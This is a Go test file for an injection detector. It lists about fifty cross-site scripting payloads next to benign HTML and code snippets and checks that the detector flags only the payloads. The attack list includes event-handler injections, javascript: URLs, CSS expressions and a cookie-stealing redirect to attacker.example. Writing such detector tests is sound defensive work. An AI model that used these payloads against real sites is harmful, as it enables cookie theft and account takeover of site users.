@@ -1,0 +1,152 @@
+package detect
+
+import (
+	"context"
+	"testing"
+)
+
+// Cross-site scripting: attacks written for these tests from the grammar that makes
+// markup or script execute (none copied from the corpus), and hard benign text —
+// markdown that shows HTML, documentation, source code — that uses the same tags,
+// words and punctuation without executing anything.
+
+var xssQualityAttacks = []struct{ where, in string }{
+	// elements with event handlers, in the usual spellings
+	{"query:q", "<img src=x onerror=alert(document.domain)>"},
+	{"query:q", "<svg/onload=confirm(1)>"},
+	{"query:q", "<details open ontoggle=print()>"},
+	{"query:q", "<img/src/onerror=alert(1)>"},
+	{"query:q", "<img\tsrc=x\tonerror=alert(1)>"},
+	{"query:q", "<svg onload%09=alert(1)>"},
+	{"query:q", "<img src=x oNeRrOr=alert(1)>"},
+	{"query:q", "<x contenteditable onblur=alert(1)>lose focus"},
+	{"query:q", "<div draggable=true ondragstart=alert(1)>drag</div>"},
+	{"query:q", "<svg><discard onbegin=alert(1)>"},
+	// attribute and string break-outs
+	{"query:q", "\" autofocus onfocus=alert(1) x=\""},
+	{"query:q", "' onmouseenter='alert(1)"},
+	{"query:q", "'><img src=x onerror=prompt(1)>"},
+	{"query:q", "\";alert(1);//"},
+	{"query:q", "'-confirm`1`-'"},
+	{"query:q", "</title><svg onload=alert(1)>"},
+	{"query:q", "\";document.location='https://attacker.example/c?'+document.cookie;//"},
+	{"query:q", "';top['al'+'ert'](1);//"},
+	// script-capable URLs
+	{"query:q", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"},
+	{"query:q", "<a href=\"javascript&colon;alert(1)\">x</a>"},
+	{"query:q", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"},
+	{"query:q", "<button formaction=javascript:alert(1)>go</button>"},
+	{"query:q", "<a href=\"vbscript:msgbox(1)\">x</a>"},
+	{"query:q", "javascript://%0aalert(1)"},
+	// dangerous elements with attributes
+	{"query:q", "<object data=\"//attacker.example/x.swf\" type=\"application/x-shockwave-flash\">"},
+	{"query:q", "<embed src=//attacker.example/x.svg>"},
+	{"query:q", "<base href=\"//attacker.example/\">"},
+	{"query:q", "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example\">"},
+	{"query:q", "<layer src=\"//attacker.example/l.html\"></layer>"},
+	// CSS
+	{"query:q", "<div style=\"width:expression(alert(1))\">"},
+	{"query:q", "<p style=x:expression\\28 alert(1)\\29>"},
+	{"query:q", "<div style=\"binding: url(//attacker.example/b.xml#x)\">"},
+	{"query:q", "<div style=\"background:\\75\\72\\6c(//attacker.example/a.png)\">"},
+	// IE-only machinery
+	{"query:q", "<?import namespace=\"v\" implementation=\"#default#vml\">"},
+	{"query:q", "<span datasrc=#island datafld=body dataformatas=html></span>"},
+	{"query:q", "¼script¾alert(1)¼/script¾"},
+	{"query:q", "%BCscript%BEalert(1)%BC/script%BE"},
+	// JavaScript gadgets and probes
+	{"query:q", "window['al'+'ert'](1)"},
+	{"query:q", "self['eval']('1+1')"},
+	{"query:q", "document['cookie']"},
+	{"query:q", "[2].find(confirm)"},
+	{"query:q", "Array.prototype.map.call`${alert}1`"},
+	{"query:q", "top.alert(1)"},
+	{"query:q", "window?.alert(1)"},
+	{"query:q", "(alert)(1)"},
+	{"query:q", "alert?.(1)"},
+	{"query:q", "x=confirm;x(1)"},
+	{"query:q", "<script>onerror=alert;throw 1</script>"},
+	{"query:q", "a{b:`function(){confirm(1)}()`}"},
+	{"query:q", "{{constructor.constructor('alert(1)')()}}"},
+}
+
+// xssQualityBenign must not be a threat at all.
+var xssQualityBenign = []struct{ where, in string }{
+	// markdown that shows harmless HTML
+	{"body:text", "Use `<a href=\"/docs\">the docs</a>` to link to the page."},
+	{"body:text", "Add the logo with `<img src=\"logo.png\" alt=\"Logo\">` in your README."},
+	{"query:q", "<img src=\"logo.png\" alt=\"Logo\" width=\"200\">"},
+	{"query:q", "<a class=\"btn\" href=\"/signup\">Sign up</a>"},
+	{"query:q", "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>"},
+	{"query:q", "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>"},
+	// prose about script
+	{"query:q", "The onload event fires when the page finishes loading."},
+	{"query:q", "Use alert() sparingly; users hate modal dialogs."},
+	{"query:q", "Reply: \"Thanks!\"; alert me when it ships."},
+	{"query:q", "the value of every expression ([ast.Expr]) that has a type"},
+	{"query:q", "The format is expression(args) where args is a list."},
+	{"query:q", "- bpo-34303: Performance of :func:`functools.reduce` is slightly improved."},
+	{"query:q", "Use `arr.filter` and `arr.map` instead of loops."},
+	{"query:q", "The ¼ inch screw and the ¾ inch bolt; see the script on page 3/4."},
+	// JavaScript and Python source
+	{"query:q", "button.addEventListener('click', function(e) { e.preventDefault(); })"},
+	{"query:q", "window.addEventListener('DOMContentLoaded', function () { refreshData(); });"},
+	{"query:q", "repl.start({ prompt: 'Enter a number: ', eval: myEval });"},
+	{"query:q", "$('#x').on('click', function () { alert('hi'); });"},
+	{"query:q", "import { sep } from 'node:path'; console.log(sep);"},
+	{"query:q", "echo \"done\"; print('ok')"},
+	{"query:q", "if devices: self['Devices'] = parse_devices(devices)"},
+	{"query:q", "content['items'][0]['name']"},
+	{"query:q", "parent['children'].append(node)"},
+	{"query:q", "top['x'] = 1"},
+	{"query:q", "window['myApp'] = new App();"},
+	{"query:q", "price = items['total'] * 1.2"},
+	{"query:q", "awk '{print $1}' file.txt"},
+	{"query:q", "x = prompt; y = confirm"},
+	{"query:q", "mode=prompt; retries=3"},
+}
+
+// xssRuleBenign are benign snippets that libinjection's HTML tokenizer reports as
+// XSS (any <iframe>, <meta http-equiv>, <base>, <link> or style attribute): the
+// engine flags them, so here only the regex patterns are held to silence.
+var xssRuleBenign = []struct{ where, in string }{
+	{"query:q", "The <iframe> element embeds another page."},
+	{"query:q", "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"},
+	{"query:q", "<base href=\"/\">"},
+	{"query:q", "const onError = (err) => { console.error(err) }"},
+	{"query:q", "<p style=\"font-family:'\\201c'\">quote</p>"},
+	{"query:q", "<i style=\"content:'\\f101'\"></i>"},
+	{"query:q", "<link rel=\"stylesheet\" href=\"/css/site.css\">"},
+}
+
+func TestXSSQualityAttacks(t *testing.T) {
+	d := newTestDetector(t)
+	for _, c := range xssQualityAttacks {
+		r := d.Detect(context.Background(), c.in, c.where)
+		if !r.IsThreat {
+			t.Errorf("missed %s %q (score %.2f, %v)", c.where, c.in, r.ThreatScore, r.Threats)
+		}
+	}
+}
+
+func TestXSSQualityBenign(t *testing.T) {
+	d := newTestDetector(t)
+	for _, c := range xssQualityBenign {
+		r := d.Detect(context.Background(), c.in, c.where)
+		if r.IsThreat {
+			t.Errorf("flagged %s %q: %s %.2f %v", c.where, c.in, r.Category, r.ThreatScore, r.Threats)
+		}
+	}
+}
+
+func TestXSSRuleBenign(t *testing.T) {
+	d := newTestDetector(t)
+	for _, c := range xssRuleBenign {
+		r := d.Detect(context.Background(), c.in, c.where)
+		for _, th := range r.Threats {
+			if th.Category == "xss" && th.Type == "regex" && th.Score >= 0.7 {
+				t.Errorf("xss pattern %s fired on %s %q (%q)", th.Pattern, c.where, c.in, th.Match)
+			}
+		}
+	}
+}
